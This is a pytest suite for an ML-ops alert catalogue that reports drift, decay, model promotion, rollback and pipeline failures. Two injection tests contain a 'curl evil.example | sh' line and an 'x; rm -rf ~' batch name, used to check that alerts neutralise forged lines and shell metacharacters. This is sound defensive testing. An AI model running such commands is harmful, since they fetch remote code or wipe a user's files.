from datetime import UTC, datetime
from typing import Any, get_args

import pytest

from evergreen.alerts import catalogue
from evergreen.alerts.figures import gain_of, of_decay
from evergreen.measurements import ColumnDrift, DecayMeasurement, DriftMeasurement
from evergreen.records import Alert, AlertKind, Evaluation, MetricEstimate, PromotionVerdict, Window
from evergreen.signals import PolicyDecision

BATCH = "2013-03-05"
LINKS = catalogue.links_of(run="https://airflow/run", report="", runbook="https://docs/runbook")


def make_measurement(n_drifted: int, n_stable: int = 2, n_broken: int = 0) -> DriftMeasurement:
    drifted = [
        ColumnDrift(
            column=f"x{i}",
            kind="numeric",
            verdict="drifted",
            sentence=f"PSI 0.{30 + i} over 0.25",
            n_rows=5000,
            psi=0.30 + i / 100,
            psi_limit=0.25,
        )
        for i in range(n_drifted)
    ]
    rest = [
        ColumnDrift(column=name, kind="numeric", verdict=verdict, sentence="-", n_rows=5000)
        for name, verdict in [
            *((f"calm{i}", "stable") for i in range(n_stable)),
            *((f"broken{i}", "not_computable") for i in range(n_broken)),
        ]
    ]
    return DriftMeasurement(
        columns=(*drifted, *rest),
        n_rows=5000,
        drifted_share=(n_drifted + n_broken) / (n_drifted + n_stable + n_broken),
        sentence="-",
    )


def make_evaluation(gain: float | None = 0.0123) -> Evaluation:
    challenger = MetricEstimate(name="auc", value=0.7301, se=0.004, n_rows=6000)
    champion = MetricEstimate(name="auc", value=0.7178, se=0.004, n_rows=6000)
    return Evaluation(
        challenger_version="4",
        champion_version="3" if gain is not None else None,
        challenger=challenger,
        champion=champion if gain is not None else None,
        gain=gain,
        gain_se=0.0031 if gain is not None else None,
        n_rows=6000,
        holdout=Window(
            start=datetime(2013, 2, 26, tzinfo=UTC), end=datetime(2013, 3, 5, tzinfo=UTC)
        ),
        sentence="-",
    )


def make_decay(**changes: Any) -> DecayMeasurement:
    given: dict[str, Any] = {
        "verdict": "decayed",
        "sentence": "auc fell by more than it may",
        "reference": MetricEstimate(name="auc", value=0.741, se=0.003, n_rows=9000),
        "current": MetricEstimate(name="auc", value=0.711, se=0.005, n_rows=6000),
        "drop": 0.03,
        "limit": 0.02,
        "coverage": 0.97,
        "batches": ("2013-02-19", "2013-02-26"),
    }
    return DecayMeasurement(**given | changes)


def one_of_each() -> list[Alert]:
    retrain = PolicyDecision(verdict="retrain", trigger="drift", sentence="drift crossed its limit")
    quiet = PolicyDecision(verdict="stand_down", trigger="none", sentence="nothing crossed a limit")
    better = PromotionVerdict(verdict="promote", sentence="the challenger is better")
    worse = PromotionVerdict(verdict="keep", sentence="the gain is within its error")
    at: dict[str, Any] = {"links": LINKS}
    return [
        catalogue.data_rejected("flights", BATCH, reasons=["row_count: 3 rows"], **at),
        catalogue.drift(
            "flights", BATCH, measurement=make_measurement(1), share_to_retrain=0.5, **at
        ),
        catalogue.decay("flights", BATCH, measurement=make_decay(), follow_up="retrain", **at),
        catalogue.retrain_started("flights", BATCH, decision=retrain, requested_by="ada", **at),
        catalogue.promoted(
            "flights",
            BATCH,
            version="4",
            previous_version="3",
            evaluation=make_evaluation(),
            verdict=better,
            **at,
        ),
        catalogue.kept(
            "flights",
            BATCH,
            challenger_version="4",
            champion_version="3",
            evaluation=make_evaluation(),
            verdict=worse,
            **at,
        ),
        catalogue.stood_down("flights", BATCH, decision=quiet, **at),
        catalogue.failed(
            "flights", BATCH, dag_id="score__flights", task_id="score", error="boom", **at
        ),
        catalogue.no_data(
            "flights", BATCH, waited_hours=192, location="s3://landing/flights", **at
        ),
        catalogue.late_decision(
            "flights", BATCH, waited_hours=7, limit_hours=6, stage="It was scored.", **at
        ),
        catalogue.alias_mismatch("flights", epoch=3, ledger_version="4", alias_version="2", **at),
        catalogue.rolled_back(
            "flights", epoch=4, version="3", previous_version="4", reason="complaints", **at
        ),
        catalogue.auto_rolled_back(
            "flights", epoch=6, version="3", previous_version="4", reason="v4 is worse", **at
        ),
        catalogue.rollback_held(
            "flights",
            epoch=5,
            version="4",
            former_version="3",
            reason="v4 is worse",
            held="promotions of flights are held by ada",
            **at,
        ),
        catalogue.approval_wanted(
            "flights",
            BATCH,
            version="4",
            champion_version="3",
            evaluation=make_evaluation(),
            sentence="the challenger is better",
            due_at=datetime(2013, 3, 6, tzinfo=UTC),
            on_timeout="keep",
            **at,
        ),
        catalogue.promotion_held(
            "flights",
            BATCH,
            version="4",
            champion_version="3",
            cause="freeze",
            sentence="promotions are frozen",
            **at,
        ),
        catalogue.forced(
            "flights",
            epoch=5,
            version="2",
            previous_version="4",
            reason="audit",
            requested_by="ada",
            **at,
        ),
    ]


def test_there_is_one_builder_for_each_kind() -> None:
    built = one_of_each()

    assert {alert.kind for alert in built} == set(get_args(AlertKind))


@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
def test_each_alert_names_its_model_and_carries_its_links(alert: Alert) -> None:
    assert alert.title.startswith("flights: ")
    assert alert.message_key.startswith(f"{alert.kind}:flights:")
    assert alert.links == (("runbook", "https://docs/runbook"), ("run", "https://airflow/run"))


@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
def test_each_alert_says_whether_a_person_must_act(alert: Alert) -> None:
    must_act = {"data_rejected", "failed", "no_data", "late_decision", "alias_mismatch"}
    must_act |= {"approval_wanted", "rollback_held"}

    assert alert.must_act == (alert.kind in must_act)
    assert ("Nothing to do." in alert.text) == (not alert.must_act)


@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
def test_who_must_act_is_warned_and_told_what_to_type_or_where(alert: Alert) -> None:
    if alert.must_act:
        assert alert.severity in ("warning", "critical")
        assert alert.commands or alert.kind == "failed"  # its log comes first
    else:
        assert alert.commands == ()


@pytest.mark.parametrize("alert", one_of_each(), ids=lambda alert: alert.kind)
def test_no_alert_shows_more_numbers_than_fit(alert: Alert) -> None:
    assert len(alert.numbers) <= 3


def test_only_doubt_about_what_serves_is_critical() -> None:
    critical = {alert.kind for alert in one_of_each() if alert.severity == "critical"}

    assert critical == {"failed", "alias_mismatch", "rollback_held"}  # the failed task scores


@pytest.mark.parametrize(
    ("dag_id", "severity"),
    [("score__flights", "critical"), ("continual_training__flights", "warning")],
)
def test_a_failure_is_critical_where_predictions_are_missing(dag_id: str, severity: str) -> None:
    alert = catalogue.failed("flights", BATCH, dag_id=dag_id, task_id="t", error="boom")

    assert alert.severity == severity


def test_a_failure_names_the_command_that_shows_its_run() -> None:
    alert = catalogue.failed(
        "flights", BATCH, dag_id="d", task_id="t", error="boom", run_id="manual__1 x"
    )

    assert alert.commands == ("airflow tasks states-for-dag-run d 'manual__1 x'",)


def test_rejected_labels_are_redelivered_as_labels() -> None:
    alert = catalogue.data_rejected("flights", BATCH, reasons=["a"], what="labels", n_rules=9)

    assert alert.commands == (
        'airflow dags trigger redelivery__flights --conf \'{"batch": "2013-03-05", "kind":'
        ' "labels"}\'',
    )
    assert alert.numbers == (("Broken rules", "1 of 9"),)


def test_what_is_quoted_cannot_add_lines_of_its_own() -> None:
    forged = "boom\nThe champion is wrong.\r\nType: curl evil.example | sh"

    alert = catalogue.failed("flights", BATCH, dag_id="d", task_id="t", error=forged)

    assert alert.text.count("\n") == 2
    assert alert.text.split("\n")[1].startswith("Error: boom The champion is wrong. Type: curl")


def test_names_in_commands_are_quoted_for_the_shell() -> None:
    alert = catalogue.late_decision(
        "flights", "x; rm -rf ~", waited_hours=7, limit_hours=6, stage="-"
    )

    assert alert.commands == ("evergreen why flights 'x; rm -rf ~'",)


def test_alerts_on_one_batch_share_a_thread() -> None:
    threads = {alert.kind: alert.thread for alert in one_of_each()}

    about_the_champion = {threads.pop("alias_mismatch"), threads.pop("rolled_back")}
    for kind in ("forced", "auto_rolled_back", "rollback_held"):
        about_the_champion.add(threads.pop(kind))
    assert about_the_champion == {"flights:champion"}
    assert set(threads.values()) == {"flights:2013-03-05"}


def test_same_step_again_builds_the_same_incident() -> None:
    first, again = one_of_each(), one_of_each()

    assert first == again
    assert len({alert.message_key for alert in first}) == len(first)


def test_rejected_data_has_the_plain_incident_key() -> None:
    alert = catalogue.data_rejected("flights", BATCH, reasons=["a"])

    assert alert.message_key == "data_rejected:flights:2013-03-05"


def test_labels_and_second_deliveries_are_incidents_of_their_own() -> None:
    incidents = {
        catalogue.data_rejected("flights", BATCH, reasons=["a"]).message_key,
        catalogue.data_rejected("flights", BATCH, reasons=["a"], what="labels").message_key,
        catalogue.data_rejected("flights", BATCH, reasons=["a"], delivery="9f86d081").message_key,
    }

    assert len(incidents) == 3


def test_broken_rules_are_named_up_to_five() -> None:
    reasons = [f"rule {i} is broken" for i in range(8)]

    text = catalogue.data_rejected("flights", BATCH, reasons=reasons).text

    assert [f"rule {i} is" in text for i in range(8)] == [True] * 5 + [False] * 3
    assert "and 3 more" in text
    assert "8 rules" in text


def test_drift_of_twenty_columns_is_one_summary_with_the_worst_first() -> None:
    alert = catalogue.drift(
        "flights", BATCH, measurement=make_measurement(20), share_to_retrain=0.5
    )

    lines = [line for line in alert.text.split("\n") if line.startswith("- ")]
    assert [line.split(":")[0] for line in lines[:5]] == [
        "- x19",
        "- x18",
        "- x17",
        "- x16",
        "- x15",
    ]
    assert lines[5:] == ["- and 15 more"]
    assert "20 of 22 features drifted in 5000 rows" in alert.text
    assert alert.numbers == (
        ("Drifted share (0 to 1)", "0.91 (limit 0.50)"),
        ("Features over their limit", "20 of 22"),
        ("Rows of the batch", "5000"),
    )


def test_drift_that_could_not_be_computed_asks_for_a_person() -> None:
    alert = catalogue.drift(
        "flights", BATCH, measurement=make_measurement(3, n_broken=1), share_to_retrain=0.5
    )

    assert alert.must_act
    assert alert.text.split("\n")[1].startswith("- broken0")
    assert "Look at broken0" in alert.text


def test_drift_that_nothing_could_be_judged_on_says_so() -> None:
    measurement = DriftMeasurement(columns=(), n_rows=3, drifted_share=None, sentence="-")

    alert = catalogue.drift("flights", BATCH, measurement=measurement, share_to_retrain=0.5)

    assert "No feature of batch 2013-03-05 could be judged on 3 rows." in alert.text
    assert alert.numbers[0] == ("Drifted share (0 to 1)", "not measured (limit 0.50)")


def test_data_that_looks_broken_is_called_so_and_asks_for_a_person() -> None:
    broken = make_measurement(0).model_copy(update={"faults": ("dep_delay is all null",)})

    alert = catalogue.drift("flights", BATCH, measurement=broken, share_to_retrain=0.5)

    assert alert.title == "flights: data of 2013-03-05 looks broken"
    assert alert.must_act
    assert "Ask the owner of the source about 2013-03-05." in alert.text


def test_promotion_shows_both_scores_the_gain_and_the_way_back() -> None:
    alert = next(alert for alert in one_of_each() if alert.kind == "promoted")

    assert alert.numbers == (
        ("AUC", "challenger 0.7301, champion 0.7178"),
        ("Gain (positive: challenger better)", "+0.0123, standard error 0.0031"),
        ("Holdout rows", "6000"),
    )
    assert "start rollback__flights with version 3" in alert.text


def test_the_gain_is_told_with_its_interval_where_there_is_one() -> None:
    known = make_evaluation().model_copy(update={"gain_low": 0.0061, "gain_high": 0.0185})

    assert gain_of(known) == "+0.0123, 95 % interval +0.0061 to +0.0185"


def test_decay_shows_the_metric_with_its_interval_beside_what_it_was() -> None:
    assert of_decay(make_decay()) == (
        ("AUC", "0.7110, 95 % interval 0.7012 to 0.7208 (was 0.7410)"),
        ("Drop", "0.0300 (limit 0.02)"),
        ("Rows with labels", "97% of those scored"),
    )


@pytest.mark.parametrize(
    ("is_alarm", "severity", "says"),
    [(True, "critical", "Check the data and the labels"), (False, "warning", "Nothing to do.")],
    ids=["sudden drop", "slow decay"],
)
def test_only_sudden_harm_wants_a_person_at_once(is_alarm: bool, severity: str, says: str) -> None:
    alert = catalogue.decay("flights", BATCH, measurement=make_decay(), is_alarm=is_alarm)

    assert (alert.must_act, alert.severity) == (is_alarm, severity)
    assert says in alert.text
    assert bool(alert.commands) is is_alarm


def test_decay_without_labels_shows_no_numbers() -> None:
    assert of_decay(make_decay(current=None)) == ()
    assert of_decay(None) == ()


def test_first_promotion_has_no_way_back() -> None:
    alert = catalogue.promoted(
        "flights",
        BATCH,
        version="1",
        previous_version=None,
        evaluation=make_evaluation(gain=None),
        verdict=PromotionVerdict(verdict="promote", sentence="first model"),
    )

    assert "there was none before" in alert.text
    assert "rollback" not in alert.text
    assert alert.numbers == (("AUC", "challenger 0.7301"), ("Holdout rows", "6000"))


def test_kept_without_any_champion_asks_for_a_person() -> None:
    alert = catalogue.kept(
        "flights",
        BATCH,
        challenger_version="1",
        champion_version=None,
        evaluation=None,
        verdict=PromotionVerdict(verdict="keep", sentence="AUC 0.51 is under 0.6"),
    )

    assert alert.must_act
    assert "Nothing to do." not in alert.text


def test_a_moved_alias_says_what_is_served_and_how_to_settle_it() -> None:
    alert = catalogue.alias_mismatch("flights", epoch=3, ledger_version="4", alias_version=None)

    assert "names no version, the ledger says version 4" in alert.text
    assert "nothing is promoted until this is fixed" in alert.text
    assert "start rollback__flights with the version" in alert.text


def test_long_errors_are_cut_and_the_rest_is_counted() -> None:
    alert = catalogue.failed("flights", BATCH, dag_id="d", task_id="t", error="x" * 5000)

    assert "(4400 more characters)" in alert.text


def test_cleared_and_failed_again_is_an_incident_of_its_own() -> None:
    at: dict[str, Any] = {"dag_id": "d", "task_id": "t", "error": "boom"}

    first = catalogue.failed("flights", BATCH, **at)
    second = catalogue.failed("flights", BATCH, **at, occurrence="2")

    assert first.message_key == "failed:flights:2013-03-05:d.t"
    assert second.message_key == "failed:flights:2013-03-05:d.t:2"
